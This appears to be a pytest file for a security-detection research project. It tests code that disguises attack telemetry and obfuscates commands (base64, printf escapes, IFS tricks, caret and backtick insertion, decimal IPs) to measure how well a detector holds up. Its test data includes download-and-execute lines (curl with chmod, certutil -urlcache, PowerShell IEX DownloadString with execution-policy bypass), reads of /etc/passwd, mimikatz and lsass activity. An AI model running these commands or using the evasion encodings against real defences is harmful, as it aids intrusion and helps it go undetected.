"""Disguises: consistent, deterministic, same function, ordinary rows untouched."""

import base64
import re
import shlex
from itertools import pairwise
from random import Random

import numpy as np
import numpy.typing as npt
import pyarrow as pa
import pytest

from tests.film.staged import batch, did, launch
from watchfloor.base.events import NAMES, SCHEMA, Row
from watchfloor.film.screen import Calibration, Family
from watchfloor.lab import evade_shell, evade_windows
from watchfloor.lab.evade import DISGUISES, HARDER, disguised, everything, rows_of
from watchfloor.lab.measure_evasion import Units, compared, figures

TOOL = r"C:\Users\bob\Downloads\mimikatz.exe"
CMD = r"C:\Windows\System32\cmd.exe"
EVERY = (*DISGUISES, *HARDER)


def attack() -> pa.RecordBatch:
    user = {"actor.user.name": r"CORP\bob"}
    version = {"process.file.internal_name": "mimi.exe"}
    return batch(
        launch("b", f"a {CMD}", TOOL, f'"{TOOL}" privilege::debug', 0, **user, **version),
        did("process.open", "b", TOOL, 5, process__file__path=r"C:\Windows\System32\lsass.exe"),
        launch("c", f"b {TOOL}", CMD, f'cmd.exe /c del "{TOOL}" & mimikatz.exe & whoami', 9, **user),
        did("network.connect", "b", TOOL, 12, dst_endpoint__ip="203.0.113.7", actor__user__name=r"CORP\bob"),
        did("file.create", "c", CMD, 15, file__path=r"C:\Users\bob\AppData\Local\Temp\out.dll"),
    )  # fmt: skip


def linux() -> pa.RecordBatch:
    """Two rows of an attack, then two of ordinary work."""
    host = {"device.os": "linux", "device.hostname": "web"}
    return batch(
        launch("1", "0 /usr/bin/bash", "/tmp/.x/scan", "/tmp/.x/scan 10.0.0.7", 1, **host),
        launch("2", "1 /tmp/.x/scan", "/usr/bin/dash", "sh -c 'cat /etc/passwd; /tmp/.x/scan again'", 2, **host),
        launch("3", "0 /usr/bin/bash", "/opt/site/run", "/opt/site/run daily", 3, **host),
        launch("4", "0 /usr/bin/bash", "/usr/bin/ls", "ls", 4, **host),
    )


def first_two(rows: pa.RecordBatch) -> npt.NDArray[np.bool_]:
    return np.asarray([r in ("1", "2") for r in rows.column("record").to_pylist()], np.bool_)


def after(*kinds: str, of: pa.RecordBatch | None = None, seed: int = 7) -> list[Row]:
    out = disguised([of if of is not None else attack()], kinds, seed)
    return [row for part in out for row in rows_of(part, everything(part))]


def test_a_renamed_tool_has_one_name_in_every_column() -> None:
    rows = after("rename", "repath")
    path = rows[0]["process.file.path"]
    name = path.rpartition("\\")[2]
    assert path.lower() != TOOL.lower() and "mimikatz" not in path and name.endswith(".exe")
    assert rows[0]["process.file.internal_name"] == "mimi.exe"
    assert rows[0]["process.cmd_line"] == f'"{path}" privilege::debug'
    assert rows[1]["actor.process.file.path"] == rows[3]["actor.process.file.path"] == path
    assert rows[2]["process.cmd_line"] == f'cmd.exe /c del "{path}" & {name} & whoami'
    assert rows[1]["process.file.path"] == r"C:\Windows\System32\lsass.exe"
    assert rows[0]["actor.process.file.path"] == CMD
    assert rows[4]["file.path"].endswith(".dll") and "out" not in rows[4]["file.path"]


def test_accounts_hosts_and_addresses_change_everywhere() -> None:
    rows = after("users")
    names = {row["actor.user.name"] for row in rows if row["actor.user.name"]}
    assert len(names) == 1 and not names & {r"CORP\bob"}
    person = names.pop().rpartition("\\")[2]
    assert f"\\Users\\{person}\\" in rows[0]["process.file.path"]
    assert {row["device.hostname"] for row in rows} != {"ws-1"}
    assert len({row["device.hostname"] for row in rows}) == 1
    assert rows[3]["dst_endpoint.ip"] not in ("203.0.113.7", None)


@pytest.mark.parametrize("kind", EVERY)
def test_the_same_seed_gives_the_same_events(kind: str) -> None:
    assert after(kind) == after(kind)
    assert after(kind, of=linux()) == after(kind, of=linux())


def test_another_seed_gives_other_names() -> None:
    found = {after("rename", seed=seed)[0]["process.file.path"] for seed in range(6)}
    assert len(found) > 1


@pytest.mark.parametrize("kinds", [*[(k,) for k in EVERY], EVERY], ids=str)
def test_ordinary_rows_stay_equal(kinds: tuple[str, ...]) -> None:
    before = linux()
    out = disguised([before], kinds, 7, first_two)
    assert all(part.schema.equals(SCHEMA) for part in out)
    assert out[0].num_rows == 4
    assert out[0].slice(2).equals(before.slice(2))
    assert out[0].column("record").equals(before.column("record"))
    mine = [row for part in out for row in rows_of(part, everything(part))]
    assert all(row["raw_data"] is None for row in [*mine[:2], *mine[4:]])


def test_what_ordinary_rows_name_is_kept() -> None:
    own = "/opt/site/run"
    before = batch(
        launch("1", "0 /usr/bin/bash", own, f"{own} --evil", 1, **{"device.os": "linux"}),
        launch("2", "0 /usr/bin/bash", own, f"{own} daily", 2, **{"device.os": "linux"}),
    )
    out = disguised([before], ("rename", "repath"), 7, lambda b: np.asarray([True, False]))
    assert out[0].column("process.file.path").to_pylist() == [own, own]


def test_nothing_is_done_without_attack_or_kinds() -> None:
    before = linux()
    assert disguised([before], DISGUISES, 7, lambda b: np.zeros(len(b), np.bool_)) == [before]
    assert disguised([before], (), 7) == [before]
    with pytest.raises(ValueError, match="unknown"):
        disguised([before], ("hide",), 7)


HOSTILE: list[Row] = [
    {},
    {"action": "process.launch", "process.cmd_line": "", "process.file.path": ""},
    {"action": "process.launch", "device.os": "linux", "process.cmd_line": "sh -c 'it is", "time": 2**62},
    {"action": "process.launch", "device.os": "linux", "process.cmd_line": "sh -c", "process.file.path": "/tmp/"},
    {"action": "process.launch", "process.cmd_line": "powershell -enc ((((", "process.file.path": "\\\\\\"},
    {"action": "process.launch", "process.cmd_line": "powershell - ", "actor.user.name": "\\", "time": -(2**62)},
    {"action": "process.launch", "process.cmd_line": 'cmd /c "', "actor.user.name": "uid:x", "user.name": " "},
    {"action": "script.run", "script.content": "(((" * 3000, "device.hostname": ".", "process.pid": 2**40},
    {"action": "file.create", "file.path": "C:\\[a-z]*(", "dst_endpoint.ip": "999.1.2.3", "source": "\\"},
    {"action": "process.launch", "device.os": "linux", "process.cmd_line": "python3 -c '\x00é\U0001f600'"},
]


@pytest.mark.parametrize("kinds", [*[(k,) for k in EVERY], EVERY], ids=str)
def test_hostile_values_survive(kinds: tuple[str, ...]) -> None:
    before = batch(*HOSTILE)
    out = disguised([before, before.slice(0, 0)], kinds, 7)
    assert out[0].num_rows == len(HOSTILE) and out[1].num_rows == 0
    assert all(part.schema.names == list(NAMES) for part in out)
    for column in ("record", "action", "device.os", "process.uid"):
        assert out[0].column(column).equals(before.column(column))


SCRIPTS = (
    "id",
    "cat /etc/passwd | grep root",
    "curl -s http://files.example/x -o /tmp/x && chmod +x /tmp/x; if true; then whoami; fi",
    "echo 'it is' \"quoted $HOME\" plain",
    "uname -a",
    "find / -perm -4000 -type f",
)


@pytest.mark.parametrize("text", SCRIPTS)
def test_a_shell_script_decodes_to_itself(text: str) -> None:
    for seed in range(40):
        argv = shlex.split(evade_shell.encoded(shlex.join(["sh", "-c", text]), Random(seed)))
        assert argv[:2] == ["sh", "-c"]
        assert shell_decoded(argv[2]) == shlex.split(text), argv[2]


def shell_decoded(script: str) -> list[str]:
    if found := re.search(r"(?:echo|printf %s) ([A-Za-z0-9+/=]+) ?\| ?base64 -d", script):
        return shlex.split(base64.b64decode(found[1]).decode())
    if found := re.fullmatch(r"""eval "\$\(printf '(.*)'\)\"""", script):
        digits = re.findall(r"\\x(..)", found[1])
        numbers = [int(d, 16) for d in digits] or [int(d, 8) for d in re.findall(r"\\(\d{3})", found[1])]
        return shlex.split(bytes(numbers).decode())
    return shlex.split(script.replace("${IFS}", " ").replace("$IFS$9", " "))


def test_typed_commands_keep_their_arguments() -> None:
    for seed in range(40):
        text = evade_shell.as_text("chmod 755 /srv/a/b.sh", Random(seed))
        argv = shlex.split(text)
        assert (shell_decoded(argv[2]) if argv[0] == "sh" else shell_decoded(text)) == ["chmod", "755", "/srv/a/b.sh"]


def test_code_for_an_interpreter_decodes_to_itself() -> None:
    argv = shlex.split(evade_shell.encoded("python3 -c 'import os; os.system(\"id\")' x", Random(1)))
    found = re.search(r"b64decode\('(.*)'\)", argv[2])
    assert found and base64.b64decode(found[1]).decode() == 'import os; os.system("id")'
    assert argv[3] == "x"


def test_an_address_becomes_the_same_number() -> None:
    assert evade_shell.encoded("curl -s http://10.0.0.7:80/a", Random(1)) == "curl -s http://167772167:80/a"
    assert evade_shell.decimal("http://999.0.0.7/") == "http://999.0.0.7/"


def test_powershell_decodes_to_itself() -> None:
    command = "IEX (New-Object Net.WebClient).DownloadString('x')"
    told = base64.b64encode(command.encode("utf-16-le")).decode()
    for seed, given in ((s, g) for s in range(20) for g in (f'-c "{command}"', f"-enc {told}", f'"{command}"')):
        text = evade_windows.encoded(f"powershell.exe -NoP -w hidden -ep bypass {given}", Random(seed))
        found = max(re.findall(r"[A-Za-z0-9+/=]{40,}", text), key=len)
        assert base64.b64decode(found).decode("utf-16-le") == command
        assert text.startswith("powershell.exe ")
        assert re.search(r"\s-(ep|ex\w*) bypass\b", text, re.IGNORECASE), text


@pytest.mark.parametrize(
    "text",
    [
        "cmd.exe /c whoami /all & net user",
        'cmd /c dir "C:\\Program Files" & echo %USERNAME%',
        'C:\\Windows\\System32\\net.exe user "a b" /domain',
        "certutil.exe -urlcache -split -f http://files.example/Ab c.txt",
        r"C:\tools\evil.exe --Target HOST1 run",
    ],
)
def test_windows_arguments_stay_what_they_are(text: str) -> None:
    for seed in range(30):
        found = evade_windows.encoded(text, Random(seed))
        assert found.replace("^", "").replace('""', "").lower() == text.lower()
        quoted = re.findall(r'"[^"]+"', text)
        assert all(part in found for part in quoted)
        assert "%USERNAME%" not in text or "%USERNAME%" in found


def test_a_script_without_ticks_and_case_is_itself() -> None:
    text = "Invoke-Mimikatz -DumpCreds; $a = Get-Process; iex $b"
    found = evade_windows.script(text, Random(3))
    assert found != text
    assert found.replace("`", "").lower() == text.lower()


def test_padding_keeps_the_command_at_its_front() -> None:
    assert shlex.split(evade_shell.padded("sh -c 'id; w'", Random(1)))[2].startswith("id; w\n# ")
    assert evade_windows.padded("cmd.exe /c whoami", Random(1)).startswith("cmd.exe /c whoami & rem ")
    assert evade_shell.padded("ls -l", Random(1)) == "ls -l"


def test_slower_work_keeps_its_order() -> None:
    before = [row["time"] for row in rows_of(attack(), everything(attack()))]
    times = [row["time"] for row in after("pace")]
    assert times[0] == before[0]
    pauses = [(late - early) / (b - a) for (early, late), (a, b) in zip(pairwise(times), pairwise(before), strict=True)]
    assert all(2 <= p <= 6 for p in pauses)


def test_inserted_rows_are_ordinary_launches_of_the_same_processes() -> None:
    rows = after("insert")[5:]
    assert len(rows) >= 4
    assert all(row["record"].startswith("inserted:") and row["action"] == "process.launch" for row in rows)
    assert {row["actor.process.uid"] for row in rows} <= {"a", "b", "c"}
    assert len({row["process.uid"] for row in rows}) == len(rows)


def test_the_difference_is_paired() -> None:
    before, now = np.asarray([True, True, False, True]), np.asarray([True, False, False, True])
    found = compared(before, now, np.ones((10, 4)))
    assert (found["found"], found["points"], found["lost"], found["won"]) == (0.5, -25.0, 1, 0)
    assert found["low"] == found["high"] == -25.0


def test_figures_count_by_the_same_thresholds_before_and_after() -> None:
    calibration = Calibration(np.zeros(1, np.float32), 0.0)
    family = Family(calibration, calibration, suspicious=0.4, malicious=0.8)
    units = Units(
        before=np.asarray([0.9, 0.5, 0.9]),
        after={"rename": np.asarray([0.9, 0.3, 0.5])},
        cluster=np.asarray(["a", "a", "b"], np.object_),
        ordinary=np.linspace(0, 0.6, 100),
    )
    found = figures(units, family, allowed=True, sets=["rename"], note="")
    assert (found["attacks"], found["resampled"]) == (3, 2)
    renamed = found["rename"]
    assert renamed["malicious"]["found"] == pytest.approx(1 / 3)
    assert renamed["suspicious or worse"]["points"] == pytest.approx(-100 / 3)
    limit = found["thresholds"]["at 1.67% false alarms"]
    assert (units.ordinary >= limit).mean() <= 0.0167
    assert renamed["mean logit shift"] < 0
    assert renamed["roc auc"] < found["before"]["roc auc"]
